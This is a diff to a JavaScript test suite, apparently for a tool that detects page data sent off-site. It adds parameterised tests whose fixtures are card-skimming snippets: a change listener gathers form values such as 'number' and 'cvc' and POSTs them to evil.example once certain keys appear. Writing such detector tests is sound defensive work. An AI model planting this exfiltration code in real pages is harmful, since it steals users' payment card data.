@@ -62,6 +62,22 @@ describe('what leaves a page', () => {
     expect(flows(asked).some((flow) => flow.endsWith('> ajax evil.example') && flow !== ' > ajax evil.example')).toBe(true)
   })
 
+  it.each([
+    'Object.keys(all).length > 3',
+    'Object.entries(all).length >= 4',
+    'Object.values(all).length === 5',
+    "'cvc' in all",
+    "all.hasOwnProperty('cvc')",
+    "Object.hasOwn(all, 'cvc')",
+    'all.number && all.cvc',
+  ])('is seen if it waits for keys that only the page names: %s', (test) => {
+    const code = `let all = {}; document.addEventListener('change', (e) => { all = { ...all, [e.target.name]: e.target.value }; if (${test}) fetch('https://evil.example', { method: 'POST', body: JSON.stringify(all) }) })`
+    expect(flows(code)).toContain('value > fetch evil.example')
+    expect(flows(code.replace('all = { ...all, [e.target.name]: e.target.value }', 'all[e.target.name] = e.target.value'))).toContain(
+      'value > fetch evil.example',
+    )
+  })
+
   it('is not mixed with the arguments of another call of the same function', () => {
     const text = `function same(v) { return v } function f() { same(document.querySelector("#card").value) } function g(q) { fetch("https://a.example/", { body: same(q) }) }
       function h(q) { fetch("https://b.example/", { body: same(q) }) } function i(q) { fetch("https://c.example/", { body: same(q) }) }`
